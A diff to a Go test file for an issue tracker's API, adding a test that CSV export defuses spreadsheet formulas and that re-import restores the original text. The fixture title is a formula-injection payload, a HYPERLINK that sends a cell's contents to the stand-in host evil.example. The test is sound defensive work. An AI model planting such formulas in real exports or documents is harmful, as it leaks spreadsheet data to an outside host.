@@ -453,3 +453,34 @@ func TestImportHoldsCyclesToTheRules(t *testing.T) {
 		t.Fatalf("export %+v", d)
 	}
 }
+
+// TestCSVExportDefusesFormulas: user text that a spreadsheet would run as a
+// formula is exported behind an apostrophe, and our CSV importer takes it
+// off again, so the text comes back as it was.
+func TestCSVExportDefusesFormulas(t *testing.T) {
+	ts := newTestServer(t)
+	owner := ts.register("alice@example.com", "Alice")
+	var p models.Project
+	owner.must(201, "POST", "/api/v1/projects", map[string]string{"name": "Formulas"}, &p)
+	title, desc := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "- first\n- second"
+	owner.must(201, "POST", "/api/v1/projects/"+p.ID+"/issues", map[string]any{"title": title, "description": desc,
+		"labels": []string{"@home"}}, nil)
+	csv := string(owner.export(p.ID, "csv"))
+	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`, "'@home", "\"'- first\r\n- second\""} {
+		if !strings.Contains(csv, want) {
+			t.Fatalf("CSV lacks %s:\n%s", want, csv)
+		}
+	}
+	job := owner.waitImport(owner.startImport("csv", "Back", []byte(csv)))
+	if job.Status != models.ImportDone || job.ProjectID == nil {
+		t.Fatalf("import: %+v", job)
+	}
+	var board struct {
+		Items []models.Issue `json:"items"`
+	}
+	owner.must(200, "GET", "/api/v1/projects/"+*job.ProjectID+"/issues", nil, &board)
+	if len(board.Items) != 1 || board.Items[0].Title != title || board.Items[0].Description != desc ||
+		len(board.Items[0].Labels) != 1 || board.Items[0].Labels[0] != "@home" {
+		t.Fatalf("imported back: %+v", board.Items)
+	}
+}
